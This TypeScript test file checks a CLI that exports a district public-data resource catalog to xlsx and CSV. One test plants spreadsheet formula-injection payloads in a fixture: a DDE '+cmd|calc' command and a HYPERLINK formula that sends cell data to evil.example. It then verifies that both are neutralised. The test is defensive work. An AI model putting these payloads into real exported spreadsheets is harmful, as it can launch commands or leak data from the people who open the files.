import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, test } from 'vitest';
import { MDS_BIN } from '../cli/helpers.js';
import { zipEntries } from '../helpers.js';

const STANDARDS = join(import.meta.dirname, '../../standards');

describe('the public-data resource catalog', () => {
    let out: string;
    beforeAll(() => {
        out = join(mkdtempSync(join(tmpdir(), 'mds-catalog-')), 'out');
        execFileSync(process.execPath, [MDS_BIN, 'catalog', STANDARDS, '--out', out]);
    });

    test('catalog.xlsx reads back with exceljs: one row per record, one per data item', async () => {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.readFile(join(out, 'catalog.xlsx'));
        expect(wb.worksheets.map(w => w.name)).toEqual(['资源目录', '数据项', '数据元', '代码表']);
        const resources = wb.getWorksheet('资源目录')!;
        const header = (resources.getRow(1).values as unknown[]).slice(1);
        expect(header.slice(0, 4)).toEqual(['资源名称', '资源代码', '命名空间', '数源部门']);
        const rows = new Map<string, Record<string, unknown>>();
        resources.eachRow((row, n) => {
            if (n === 1) return;
            const values = (row.values as unknown[]).slice(1);
            rows.set(String(values[1]), Object.fromEntries(header.map((h, i) => [String(h), values[i]])));
        });
        expect(rows.size).toBe(35);
        expect(rows.get('minhang.population.NaturalPerson')).toMatchObject({
            资源名称: '自然人', 数源部门: '闵行区公安分局', 共享属性: '有条件共享', 开放属性: '非开放', 更新周期: '每日',
            权威系统: '实有人口管理系统', 分级: '重要数据', 个人信息: '是', 主键: 'citizenId'
        });
        expect(rows.get('minhang.education.School')).toMatchObject({ 开放属性: '无条件开放', 分级: '一般数据' });
        const items = wb.getWorksheet('数据项')!;
        const personItems: unknown[][] = [];
        items.eachRow(row => { const v = (row.values as unknown[]).slice(1); if (v[0] === 'minhang.population.NaturalPerson') personItems.push(v); });
        expect(personItems.length).toBe(12);
        expect(personItems[0].slice(2, 6)).toEqual(['公民身份号码', 'citizenId', 'minhang.common.CitizenId', '公民身份号码']);
        expect(String(personItems[0][6])).toContain('格式 gb11643');
    });

    test('CSV files are UTF-8 with a byte-order mark and quote what needs quoting', () => {
        const resources = readFileSync(join(out, 'resources.csv'), 'utf8');
        expect(resources.charCodeAt(0)).toBe(0xfeff);
        const lines = resources.slice(1).trim().split('\r\n');
        expect(lines[0].startsWith('资源名称,资源代码,命名空间,数源部门')).toBe(true);
        expect(lines).toHaveLength(36);
        const items = readFileSync(join(out, 'data-items.csv'), 'utf8');
        expect(items.charCodeAt(0)).toBe(0xfeff);
        expect(items).toContain('"[1-9][0-9]{16}[0-9X]"'.slice(1, -1));
    });

    test('formula injection is neutralised: a leading quote in CSV, quotePrefix text cells in xlsx', async () => {
        const dir = mkdtempSync(join(tmpdir(), 'mds-catalog-evil-'));
        mkdirSync(join(dir, 'std'));
        writeFileSync(join(dir, 'std/evil.mds'), [
            'namespace t.evil',
            'element Name "+cmd|calc" : string',
            'element Code "@SUM(1+1)" : string',
            'record R "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"点击\\")" { key name: Name  code?: Code "-2+3" }', ''
        ].join('\n'));
        const cat = join(dir, 'cat');
        execFileSync(process.execPath, [MDS_BIN, 'catalog', join(dir, 'std'), '--out', cat]);
        const resources = readFileSync(join(cat, 'resources.csv'), 'utf8');
        expect(resources).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
        const items = readFileSync(join(cat, 'data-items.csv'), 'utf8');
        for (const text of ["'+cmd|calc", "'@SUM(1+1)", "'-2+3"]) expect(items).toContain(text);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.readFile(join(cat, 'catalog.xlsx'));
        const cell = wb.getWorksheet('资源目录')!.getRow(2).getCell(1);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe('=HYPERLINK("http://evil.example/?"&A1,"点击")');
        expect(cell.style.alignment).toBeDefined();
        const xml = String((await zipEntries(join(cat, 'catalog.xlsx'))).find(e => e.name === 'xl/worksheets/sheet1.xml')?.data);
        expect(xml).toMatch(/<c r="A2" s="2" t="inlineStr">/);
        expect(xml).not.toContain('<f>');
    });
});
